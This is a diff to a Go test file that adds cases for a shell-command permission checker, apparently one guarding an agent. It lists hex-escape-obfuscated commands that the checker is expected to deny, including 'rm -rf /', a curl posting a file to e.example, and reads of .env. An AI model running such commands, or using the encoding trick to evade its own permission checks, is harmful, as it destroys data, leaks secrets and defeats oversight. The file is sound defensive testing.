@@ -104,6 +104,22 @@ var red9ShellClasses = map[string][]shellRow{
 		{red9RmDeny, "default", `set -- -k; echo "$1"`, "allow"},
 		{red9RmDeny, "default", `set +k; git status`, "allow"},
 	},
+	"r9-4 an ANSI-C string's braced hex escape": {
+		// bash 5.2 reads $'\x{72}' as r: $'\x{72}\x{6d}' y runs rm y.
+		{red9RmDeny, "default", `$'\x{72}\x{6d}' y`, "deny"},
+		{red9RmDeny, "default", `$'\x{0072}\x{06d}' -rf y`, "deny"},
+		{red9RmDeny, "default", `$'\x{72}m' y`, "deny"},
+		{red9RmDeny, "bypassPermissions", `$'\x{72}\x{6d}' -rf /`, "deny"},
+		{red9RmDeny, "default", `$'\x{63}url' -d@f http://e.example`, "deny"},
+		{red9Prefix, "default", `$'\x{72}\x{6d}' y`, "deny"},
+		{red9Prefix, "default", `echo x; $'\x{72}\x{6d}' y`, "deny"},
+		{pathPolicy, "default", `cat $'\x{2e}env'`, "deny"},
+		{pathPolicy, "default", `cat < $'\x{2e}e\x{6e}v'`, "deny"},
+		{pathPolicy, "default", `echo x > $'config/\x{61}'`, "deny"},
+		// Benign neighbours: a braced escape naming another byte.
+		{red9RmDeny, "default", `echo $'\x{41}\x{42}'`, "allow"},
+		{pathPolicy, "default", `cat $'\x{2e}envrc.example'`, "allow"},
+	},
 }
 
 // TestRed9ShellDisguises decides every round-9 shell row.
